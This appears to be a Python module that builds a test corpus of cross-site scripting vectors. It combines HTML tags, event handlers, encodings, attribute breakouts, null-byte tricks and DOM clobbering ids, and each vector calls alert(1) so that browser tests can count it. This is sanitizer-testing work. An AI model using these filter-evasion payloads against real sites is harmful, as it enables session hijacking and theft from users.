"""Attacks, made by combining what such lists are made of: tags, handlers, addresses, encodings, contexts.

Each calls `alert`, which the browser tests count.  No list of others is copied here.
"""

from __future__ import annotations

import base64
import html
from collections.abc import Callable, Iterator
from itertools import product
from urllib.parse import quote

from attack_parts import ADDRESSES, ATTRIBUTES, BEARERS, EMBEDS, LINKS, MUTATIONS, STYLES, TEMPLATES, WRAPPED

CALL = "alert(1)"
TAGS = [
    *("img src=x", "svg", "body", "iframe", "details open", "input autofocus", "video src=x", "audio src=x"),
    *(
        "marquee",
        "object data=x",
        "embed src=x",
        "math",
        "button autofocus",
        "a href=x tabindex=0",
        "x-y",
        "p",
    ),
    *(
        "select autofocus",
        "textarea autofocus",
        "style",
        "form",
        "table background=x",
        "link rel=stylesheet href=x",
    ),
    *(
        "frameset",
        "video><source",
        "svg><animate attributeName=x dur=1s",
        "dialog open",
        "menu",
        "slot",
        "keygen",
    ),
]
HANDLERS = [
    *("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onbegin", "onpageshow"),
    *("onpointerrawupdate", "onbeforetoggle"),
]
FORMS: list[Callable[[str, str], str]] = [
    lambda tag, handler: f"<{tag} {handler}={CALL}>",
    lambda tag, handler: f'<{tag.upper()} {handler.upper()}="{CALL}">',
    lambda tag, handler: f"<{tag.replace(' ', '/')}/{handler}='{CALL}'//",
    lambda tag, handler: f"<{tag}\n{handler}\n=\n{html.escape(CALL).replace('(', '&#40;')}>",
    lambda tag, handler: f'"><{tag} {handler}={CALL} x="',
]
CLOBBERING = [
    f"<{tag} id={name}>"
    for tag, name in product(
        ("a", "img name=x", "form", "input"),
        ("__config", "__search", "location", "document", "getElementById", "cookie", "ca-query", "__proto__"),
    )
]


def vectors() -> list[str]:
    """All of them, each once, in a fixed order."""
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    encoded = base64.b64encode(f"<script>{CALL}</script>".encode()).decode()
    for tag, handler, form in product(TAGS, HANDLERS, FORMS):
        yield form(tag, handler)
    for pattern in (*MUTATIONS, *STYLES, *EMBEDS):
        yield pattern.format(CALL)
    for pattern in WRAPPED:
        yield pattern.format(CALL)
        yield quote(pattern.format(CALL))
        yield html.escape(pattern.format(CALL))
        yield pattern.format(CALL).replace("<", "<\x00")
    for address, link in product(ADDRESSES, LINKS):
        yield link.format(address.format(CALL, encoded))
    for attribute, bearer in product(ATTRIBUTES, BEARERS):
        yield bearer.format(attribute.format(CALL))
    yield from TEMPLATES
    yield from CLOBBERING
